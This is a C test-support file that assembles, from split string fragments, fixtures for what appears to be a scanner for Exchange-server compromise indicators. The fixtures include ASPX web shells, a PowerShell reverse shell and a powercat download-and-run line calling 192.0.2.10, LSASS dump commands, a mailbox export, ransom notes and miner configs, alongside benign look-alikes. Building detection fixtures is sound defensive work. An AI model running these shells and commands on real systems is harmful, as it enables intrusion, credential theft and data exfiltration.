/* Test support: fixtures for the file checks, joined from fragments at run time. */
#include <errno.h>
#include <ftw.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/time.h>

#include "fixfiles.h"
#include "pewriter.h"

const char *const t_fix_names[] = {
    "ws-eval",
    "ws-eval-vbs",
    "ws-process",
    "ws-assembly",
    "ws-upload",
    "ws-obfuscated",
    "ws-oab-dump",
    "ws-compiled-dll",
    "ws-tunnel",
    "ws-seccheck",
    "ws-filemgr",
    "ws-webconfig",
    "px-recon-cab",
    "px-nishang",
    "px-powercat",
    "px-cleanup",
    "px-lsass-cmd",
    "px-minidump-cmd",
    "px-staging-cmd",
    "px-mbxexport",
    "px-lsass-dumpfile",
    "rw-dearcry-note",
    "rw-dearcry-bin",
    "rw-blackkingdom",
    "mn-xmrig-config",
    "mn-stratum",
    "mn-xmrig-bin",
    /* benign twins */
    "benign-logon",
    "benign-js-eval",
    "benign-webconfig",
    "benign-apphost",
    "benign-cab",
    "benign-ps1",
    "benign-json",
    "benign-oab-config",
    "benign-exe",
    NULL,
};

/* Joins NULL-terminated fragments. */
static char *J(const char *first, ...)
{
    size_t n = 0;
    va_list ap;
    va_start(ap, first);
    for (const char *p = first; p; p = va_arg(ap, const char *))
        n += strlen(p);
    va_end(ap);
    char *out = malloc(n + 1), *o = out;
    if (!out)
        return NULL;
    va_start(ap, first);
    for (const char *p = first; p; p = va_arg(ap, const char *)) {
        size_t k = strlen(p);
        memcpy(o, p, k);
        o += k;
    }
    va_end(ap);
    *o = 0;
    return out;
}

/* Binary builder. */
typedef struct bin {
    unsigned char *p;
    size_t n, cap;
} bin;

static void put(bin *b, const void *d, size_t n)
{
    if (b->n + n > b->cap) {
        size_t nc = b->cap ? b->cap * 2 : 256;
        while (nc < b->n + n)
            nc *= 2;
        b->p = realloc(b->p, nc);
        b->cap = nc;
    }
    memcpy(b->p + b->n, d, n);
    b->n += n;
}

static void puts_(bin *b, const char *s)
{
    put(b, s, strlen(s) + 1); /* with its NUL, like a string table */
}

static void wide(bin *b, const char *s)
{
    for (; *s; s++) {
        unsigned char w[2] = {(unsigned char)*s, 0};
        put(b, w, 2);
    }
}

static void zeros(bin *b, size_t n)
{
    static const unsigned char z[64];
    while (n) {
        size_t k = n < sizeof z ? n : sizeof z;
        put(b, z, k);
        n -= k;
    }
}

static void u32le(unsigned char *p, uint32_t v)
{
    p[0] = (unsigned char)v;
    p[1] = (unsigned char)(v >> 8);
    p[2] = (unsigned char)(v >> 16);
    p[3] = (unsigned char)(v >> 24);
}

unsigned char *t_fix_minidump(const char *process, unsigned pid, size_t *len)
{
    /* header 32 | directory 3x12 at 32 | misc 24 at 68 | modules 4+108 at 92 | name at 204 |
     * memory64 list 16 at name end */
    size_t name_units = strlen(process);
    size_t name_off = 204, mem_off = name_off + 4 + 2 * name_units + 2;
    size_t total = mem_off + 16 + 64;
    unsigned char *d = calloc(1, total);
    if (!d)
        return NULL;
    memcpy(d, "MDMP", 4);
    u32le(d + 4, 0xA793);
    u32le(d + 8, 3);
    u32le(d + 12, 32);
    u32le(d + 20, 1615186800); /* 2021-03-08T07:00:00Z */
    /* directory: ModuleList, MiscInfo, Memory64List */
    u32le(d + 32, 4);
    u32le(d + 36, 112);
    u32le(d + 40, 92);
    u32le(d + 44, 15);
    u32le(d + 48, 24);
    u32le(d + 52, 68);
    u32le(d + 56, 9);
    u32le(d + 60, 16);
    u32le(d + 64, (uint32_t)mem_off);
    /* misc info: SizeOfInfo, Flags1 (process id present), ProcessId */
    u32le(d + 68, 24);
    u32le(d + 72, 1);
    u32le(d + 76, pid);
    /* module list: one module, ModuleNameRva at +20 of the module */
    u32le(d + 92, 1);
    u32le(d + 96 + 20, (uint32_t)name_off);
    u32le(d + name_off, (uint32_t)(2 * name_units));
    for (size_t i = 0; i < name_units; i++)
        d[name_off + 4 + 2 * i] = (unsigned char)process[i];
    *len = total;
    return d;
}

static t_fix *text(const char *name, const char *rule, char *s)
{
    t_fix *f = calloc(1, sizeof *f);
    if (!f || !s) {
        free(f);
        free(s);
        return NULL;
    }
    f->name = name;
    f->rule = rule;
    f->data = (unsigned char *)s;
    f->len = strlen(s);
    return f;
}

static t_fix *binary(const char *name, const char *rule, bin *b)
{
    t_fix *f = calloc(1, sizeof *f);
    if (!f) {
        free(b->p);
        return NULL;
    }
    f->name = name;
    f->rule = rule;
    f->data = b->p;
    f->len = b->n;
    return f;
}

#define EV                                                                                         \
    "ev"                                                                                           \
    "al("
#define PAGE "<%@ Page Language="

t_fix *t_fix_make(const char *n)
{
    bin b = {0};
    if (!strcmp(n, "ws-eval"))
        return text(
            n, "EXS-Y-WS-EVAL",
            J(PAGE, "\"Jscript\"%><%", EV, "Request.Item[\"z9\"],\"un", "safe\");%>\n", NULL));
    if (!strcmp(n, "ws-eval-vbs"))
        return text(n, "EXS-Y-WS-EVAL", J("<%ex", "ecute(request(\"x\"))%>\n", NULL));
    if (!strcmp(n, "ws-process"))
        return text(
            n, "EXS-Y-WS-PROCESS",
            J(PAGE,
              "\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e)\n{\n",
              "  var p = new System.Diagnostics.Process",
              "StartInfo(\"cm\" + \"d.exe\", \"/c \" + Request.",
              "Form[\"c\"]);\n  p.RedirectStandardOutput = true; p.UseShellExecute = false;\n",
              "  Response.Write(System.Diagnostics.Process.",
              "Start(p).StandardOutput.ReadToEnd());\n}\n</script>\n", NULL));
    if (!strcmp(n, "ws-assembly"))
        return text(n, "EXS-Y-WS-ASSEMBLY",
                    J(PAGE, "\"C#\" %><% System.Reflection.Assembly.", "Load(Convert.FromBase64",
                      "String(Request.Form[\"k\"])).CreateInstance(\"U\").Equals(this); %>\n",
                      NULL));
    if (!strcmp(n, "ws-upload"))
        return text(
            n, "EXS-FILE-WS-CODE",
            J(PAGE,
              "\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e)\n{\n",
              "  if (Request.Files.Count > 0) Request.Files[0].Save", "As(Server.MapPath(\"./\" + ",
              "Request.Files[0].FileName));\n}\n</script>\n", NULL));
    if (!strcmp(n, "ws-obfuscated"))
        return text(n, "EXS-Y-WS-OBFUSCATED",
                    J("<script language=\"JScript\" runat=\"server\">var _0x1a2b=['orange','un",
                      "safe'];", "function Page_Load(){", EV,
                      "Request[_0x1a2b[0]],_0x1a2b[1]);}</script>\n", NULL));
    if (!strcmp(n, "ws-oab-dump"))
        return text(
            n, "EXS-Y-WS-OAB-DUMP",
            J("\r\n\r\nName                            : OAB (Default Web Site)\r\n",
              "PollInterval                    : 480\r\n", "OfflineAddressBooks             : \r\n",
              "RequireSSL                      : False\r\n",
              "MetabasePath                    : IIS://EXCH01.contoso.test/W3SVC/1/ROOT/OAB\r\n",
              "ExtendedProtectionTokenChecking : None\r\n",
              "InternalUrl                     : https://exch01.contoso.test/OAB\r\n",
              "InternalAuthenticationMethods   : {WindowsIntegrated}\r\n",
              "ExternalUrl                     : http://f/<script language=\"JScript\" "
              "runat=\"server\">",
              "function Page_Load(){", EV, "Request[\"k\"],\"un", "safe\");}</script>\r\n",
              "ExternalAuthenticationMethods   : {WindowsIntegrated}\r\n", NULL));
    if (!strcmp(n, "ws-compiled-dll")) {
        put(&b, "MZ", 2);
        zeros(&b, 126);
        put(&b, "PE\0\0", 4);
        zeros(&b, 252);
        puts_(&b, "App_Web_a1b2c3d4");
        puts_(&b, "Microsoft.JScript");
        puts_(&b, "JScript");
        puts_(&b, "Evaluate");
        put(&b, "JScript", 7);
        puts_(&b, "Evaluate");
        wide(&b, "~/aspnet_client/x.aspx");
        zeros(&b, 64);
        return binary(n, "EXS-Y-WS-COMPILED", &b);
    }
    if (!strcmp(n, "ws-tunnel"))
        return text(n, "EXS-Y-WS-TUNNEL",
                    J(PAGE, "\"C#\" %>\n<%@ Import Namespace=\"System.Net.Sock", "ets\" %>\n",
                      "<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e)\n{\n",
                      "  String cmd = Request.Headers.Get(\"X-C", "MD\");\n", "  if (cmd == \"CONN",
                      "ECT\") { Socket k = new Sock", "et(AddressFamily.InterNetwork, ",
                      "SocketType.Stream, ProtocolType.Tcp); Response.AddHeader(\"X-STA",
                      "TUS\", \"OK\"); }\n", "  else if (cmd == \"DISCON",
                      "NECT\") { }\n}\n</script>\n", NULL));
    if (!strcmp(n, "ws-seccheck"))
        return text(n, "EXS-Y-WS-SECCHECK",
                    J("<%@ Page Language=\"C#\" %><%\n",
                      "if (System.IO.File.Exists(@\"C:\\Program Files\\FireEye\\xagt\\xa",
                      "gt.exe\")) Response.Write(\"3\");\n",
                      "if (System.IO.File.Exists(@\"C:\\Program Files\\CrowdStrike\\CSFalcon",
                      "Service.exe\")) Response.Write(\"2\");\n", "%>\n", NULL));
    if (!strcmp(n, "ws-filemgr"))
        return text(n, "EXS-FILE-WS-CODE",
                    J(PAGE, "\"C#\" %><%\n", "foreach (var d in System.IO.DriveInfo.Get",
                      "Drives()) Response.Write(d.Name);\n",
                      "foreach (var f in System.IO.Directory.Get",
                      "Files(Request[\"p\"])) Response.Write(f);\n",
                      "if (Request[\"del\"] != null) System.IO.File.De",
                      "lete(Request[\"del\"]);\n%>\n", NULL));
    if (!strcmp(n, "ws-webconfig"))
        return text(
            n, "EXS-Y-WS-WEBCONFIG",
            J("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n",
              "  <handlers accessPolicy=\"Read, Script, Write\">\n",
              "   <add name=\"web_config\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" ",
              "scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" "
              "resourceType=\"Unspecified\" />\n",
              "  </handlers>\n </system.webServer>\n</configuration>\n",
              "<!-- <% Response.Write(CreateObject(\"WScript.",
              "Shell\").Exec(Request(\"c\")).StdOut.ReadAll()) %> -->\n", NULL));
    if (!strcmp(n, "px-recon-cab") || !strcmp(n, "benign-cab")) {
        put(&b, "MSCF", 4);
        zeros(&b, 40);
        if (n[0] == 'p') {
            puts_(&b, "ip.txt");
            zeros(&b, 16);
            puts_(&b, "arp.txt");
            zeros(&b, 16);
            puts_(&b, "system");
            puts_(&b, "security");
        } else {
            puts_(&b, "setup.inf");
            puts_(&b, "driver.sys");
        }
        zeros(&b, 64);
        return binary(n, n[0] == 'p' ? "EXS-Y-PX-RECON-CAB" : NULL, &b);
    }
    if (!strcmp(n, "px-nishang"))
        return text(
            n, "EXS-Y-PX-NISHANG",
            J("$client = New-Object System.Net.Sockets.TCP", "Client('192.0.2.10',4444);",
              "$stream = $client.Get", "Stream();[byte[]]$bytes = 0..65535|%{0};",
              "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;",
              "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);",
              "$sendback = (i", "ex $data 2>&1 | Out-String );}\n", NULL));
    if (!strcmp(n, "px-powercat"))
        return text(n, "EXS-Y-PX-POWERCAT",
                    J("IEX (New-Object "
                      "System.Net.Webclient).DownloadString('https://raw.githubusercontent.com/",
                      "besimorhino/power", "cat/master/power", "cat.ps1');power",
                      "cat -c 192.0.2.10 -p 443 -e cmd\n", NULL));
    if (!strcmp(n, "px-cleanup"))
        return text(n, "EXS-Y-PX-CLEANUP",
                    J("cmd.exe /c cd /d C:\\inetpub\\wwwroot\\aspnet", "_client&whoami&echo [",
                      "S]&cd&echo [E]\n", NULL));
    if (!strcmp(n, "px-lsass-cmd"))
        return text(n, "EXS-Y-PX-LSASS-CMD",
                    J("C:\\Windows\\Temp\\proc", "dump64.exe -accepteula -ma lsa",
                      "ss.exe C:\\windows\\temp\\lsa", "ss.dmp\n", NULL));
    if (!strcmp(n, "px-minidump-cmd"))
        return text(n, "EXS-Y-PX-MINIDUMP-CMD",
                    J("rundll32.exe C:\\Windows\\System32\\com", "svcs.dll, Mini",
                      "Dump 624 C:\\Windows\\Temp\\out.bin full\n", NULL));
    if (!strcmp(n, "px-staging-cmd"))
        return text(n, "EXS-Y-PX-STAGING-CMD",
                    J("C:\\Windows\\Temp\\7z.exe a -t", "7z -mx9 C:\\ProgramData\\it",
                      ".zip C:\\ProgramData\\logs\n", NULL));
    if (!strcmp(n, "px-mbxexport"))
        return text(n, "EXS-Y-PX-MBXEXPORT",
                    J("Add-PSSnapin Microsoft.Exchange.Management.PowerShell.", "SnapIn;\n",
                      "New-Mailbox",
                      "ExportRequest -Mailbox ceo -FilePath \\\\srv01\\share\\ceo.pst\n", NULL));
    if (!strcmp(n, "px-lsass-dumpfile"))
        return text(
            n, "EXS-Y-PX-LSASS-DUMPFILE",
            J("TargetFilename: C:\\Users\\admin\\AppData\\Local\\Temp\\lsa", "ss (4).DMP\n", NULL));
    if (!strcmp(n, "rw-dearcry-note"))
        return text(n, "EXS-Y-RW-DEARCRY-NOTE",
                    J("Your file has been ",
                      "encrypted!\r\n    If you want to decrypt, please contact us.\r\n",
                      "    contact@example.test\r\n    And please send me the following ",
                      "hash!\r\n", "    0123456789abcdef0123456789abcdef\r\n", NULL));
    if (!strcmp(n, "rw-dearcry-bin")) {
        put(&b, "MZ", 2);
        zeros(&b, 200);
        puts_(&b, "DEAR"
                  "CRY!");
        puts_(&b, "msup"
                  "date");
        puts_(&b, "/read"
                  "me.txt");
        zeros(&b, 32);
        return binary(n, "EXS-Y-RW-DEARCRY-BIN", &b);
    }
    if (!strcmp(n, "rw-blackkingdom"))
        return text(
            n, "EXS-Y-RW-BLACKKINGDOM",
            J("Black King", "Dom: your files are locked. Pay 10000 USD in bit", "coin.\n", NULL));
    if (!strcmp(n, "mn-xmrig-config"))
        return text(n, "EXS-Y-MN-XMRIG-CONFIG",
                    J("{\n    \"autosave\": true,\n    \"randomx\": {\n        \"mode\": "
                      "\"auto\"\n    },\n",
                      "    \"donate-", "level\": 1,\n    \"pools\": [\n        {\n",
                      "            \"url\": \"pool.example.test:3333\",\n            \"user\": "
                      "\"WALLET\",\n",
                      "            \"coin\": null\n        }\n    ]\n}\n", NULL));
    if (!strcmp(n, "mn-stratum"))
        return text(n, "EXS-Y-MN-STRATUM",
                    J("start /b C:\\ProgramData\\svc.exe -o stra",
                      "tum+tcp://pool.example.test:3333 -u WALLET\n", NULL));
    if (!strcmp(n, "mn-xmrig-bin")) {
        put(&b,
            "\x7f"
            "ELF",
            4);
        zeros(&b, 60);
        puts_(&b, "XM"
                  "Rig/6.16.4");
        puts_(&b, "donate-"
                  "level");
        puts_(&b, "random"
                  "x");
        zeros(&b, 32);
        return binary(n, "EXS-Y-MN-XMRIG-BIN", &b);
    }
    /* benign twins */
    if (!strcmp(n, "benign-logon"))
        return text(
            n, NULL,
            J(PAGE,
              "\"C#\" AutoEventWireup=\"true\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" "
              "%>\n",
              "<!DOCTYPE html>\n<html><head><title>Outlook</title>\n",
              "<script type=\"text/javascript\">function setCookie(n, v) { document.cookie = n + "
              "'=' + v; }</script>\n",
              "</head><body><form action=\"/owa/auth.owa\" method=\"POST\" name=\"logonForm\">\n",
              "<input name=\"username\" type=\"text\"/><input name=\"password\" "
              "type=\"password\"/>\n",
              "<% if (Request.QueryString[\"reason\"] == \"2\") { %><div>The user name or password "
              "is incorrect.</div><% } %>\n",
              "</form></body></html>\n", NULL));
    if (!strcmp(n, "benign-js-eval"))
        return text(n, NULL,
                    J("function load(url) { var request = new XMLHttpRequest(); "
                      "request.open('GET', url, false);\n",
                      "  request.send(null); return ", EV, "request.responseText); }\n",
                      "function parse(json) { return ", EV, "'(' + json + ')'); }\n", NULL));
    if (!strcmp(n, "benign-webconfig"))
        return text(
            n, NULL,
            J("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n",
              "  <httpRedirect enabled=\"false\" />\n  <rewrite>\n   <rules>\n",
              "    <rule name=\"X-BEResource Abort - inbound\" stopProcessing=\"true\">\n",
              "     <match url=\".*\" />\n     <conditions>\n",
              "      <add input=\"{HTTP_COOKIE}\" pattern=\"(.*)X-BEResource=(.+)/(.+)~(.+)\" />\n",
              "     </conditions>\n     <action type=\"AbortRequest\" />\n    </rule>\n",
              "   </rules>\n  </rewrite>\n </system.webServer>\n</configuration>\n", NULL));
    if (!strcmp(n, "benign-apphost") || !strcmp(n, "rogue-apphost"))
        return text(
            n, NULL,
            J("<?xml version=\"1.0\" "
              "encoding=\"UTF-8\"?>\n<configuration>\n<system.applicationHost>\n",
              " <sites>\n  <site name=\"Default Web Site\" id=\"1\">\n",
              "   <application path=\"/\" applicationPool=\"DefaultAppPool\">\n",
              "    <virtualDirectory path=\"/\" physicalPath=\"%SystemDrive%\\inetpub\\wwwroot\" "
              "/>\n",
              "   </application>\n",
              "   <application path=\"/owa\" applicationPool=\"MSExchangeOWAAppPool\">\n",
              "    <virtualDirectory path=\"/\" physicalPath=\"C:\\Program "
              "Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\" />\n",
              "   </application>\n",
              n[0] == 'r'
                  ? "   <application path=\"/assets\" applicationPool=\"DefaultAppPool\">\n"
                    "    <virtualDirectory path=\"/\" physicalPath=\"C:\\ProgramData\\COM1\" />\n"
                    "   </application>\n"
                  : "",
              "   <bindings><binding protocol=\"https\" bindingInformation=\"*:443:\" "
              "/></bindings>\n",
              "  </site>\n </sites>\n</system.applicationHost>\n</configuration>\n", NULL));
    if (!strcmp(n, "benign-ps1"))
        return text(n, NULL,
                    J("Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn\n",
                      "Get-Mailbox -ResultSize Unlimited | Select Name, PrimarySmtpAddress | "
                      "Export-Csv C:\\Temp\\mbx.csv\n",
                      NULL));
    if (!strcmp(n, "benign-json"))
        return text(
            n, NULL,
            J("{\n  \"name\": \"owa-client\",\n  \"version\": \"1.2.3\",\n  \"dependencies\": {\n",
              "    \"url\": \"^0.11.0\"\n  },\n  \"scripts\": { \"build\": \"webpack\" }\n}\n",
              NULL));
    if (!strcmp(n, "benign-oab-config"))
        return text(n, NULL,
                    J("Name                            : OAB (Default Web Site)\r\n",
                      "OfflineAddressBooks             : {\\Default Offline Address Book}\r\n",
                      "InternalAuthenticationMethods   : {WindowsIntegrated}\r\n",
                      "ExtendedProtectionTokenChecking : None\r\n",
                      "InternalUrl                     : https://exch01.contoso.test/OAB\r\n",
                      "ExternalUrl                     : https://mail.contoso.test/OAB\r\n", NULL));
    if (!strcmp(n, "benign-exe")) {
        /* a real PE, Exchange's ExSetup.exe as the version reader sees it (pewriter.h), with
         * the strings of a .NET binary of Exchange's after it */
        t_pe_opts o;
        t_pe_exsetup_opts(&o);
        size_t pn;
        unsigned char *pe = t_pe_build(&o, &pn, NULL);
        if (!pe) {
            free(b.p);
            return NULL;
        }
        put(&b, pe, pn);
        free(pe);
        puts_(&b, "System.Diagnostics");
        puts_(&b, "ProcessStartInfo");
        puts_(&b, "Request");
        puts_(&b, "Load");
        wide(&b, "Microsoft Exchange Server");
        zeros(&b, 64);
        return binary(n, NULL, &b);
    }
    return NULL;
}

void t_fix_free(t_fix *f)
{
    if (!f)
        return;
    free(f->data);
    free(f);
}

static int mkdirs(char *path)
{
    for (char *p = path + 1; *p; p++) {
        if (*p != '/')
            continue;
        *p = 0;
        int r = mkdir(path, 0755);
        *p = '/';
        if (r != 0 && errno != EEXIST)
            return -1;
    }
    return 0;
}

int t_fix_write(const char *dir, const char *rel, const void *data, size_t len)
{
    char path[4096];
    if ((size_t)snprintf(path, sizeof path, "%s/%s", dir, rel) >= sizeof path)
        return -1;
    if (mkdirs(path) != 0)
        return -1;
    FILE *f = fopen(path, "wb");
    if (!f)
        return -1;
    size_t w = fwrite(data, 1, len, f);
    int rc = fclose(f);
    return w == len && rc == 0 ? 0 : -1;
}

int t_fix_write_at(const char *dir, const char *rel, const void *data, size_t len, long long mtime)
{
    if (t_fix_write(dir, rel, data, len) != 0)
        return -1;
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", dir, rel);
    struct timeval tv[2] = {{(time_t)mtime, 0}, {(time_t)mtime, 0}};
    return utimes(path, tv);
}

int t_tmpdir_create(char *dir, size_t cap, const char *prefix)
{
    const char *tmp = getenv("TMPDIR");
    if (!tmp || !*tmp)
        tmp = "/tmp";
    if ((size_t)snprintf(dir, cap, "%s/%s-XXXXXX", tmp, prefix) >= cap)
        return -1;
    return mkdtemp(dir) ? 0 : -1;
}

static int remove_one(const char *path, const struct stat *sb, int flag, struct FTW *ftw)
{
    (void)sb;
    (void)flag;
    (void)ftw;
    return remove(path);
}

int t_tmpdir_remove(const char *dir)
{
    return nftw(dir, remove_one, 16, FTW_DEPTH | FTW_PHYS);
}

char t_dir[256];

int t_dir_setup(void **state)
{
    (void)state;
    return t_tmpdir_create(t_dir, sizeof t_dir, "exs-test");
}

int t_dir_teardown(void **state)
{
    (void)state;
    return t_tmpdir_remove(t_dir);
}
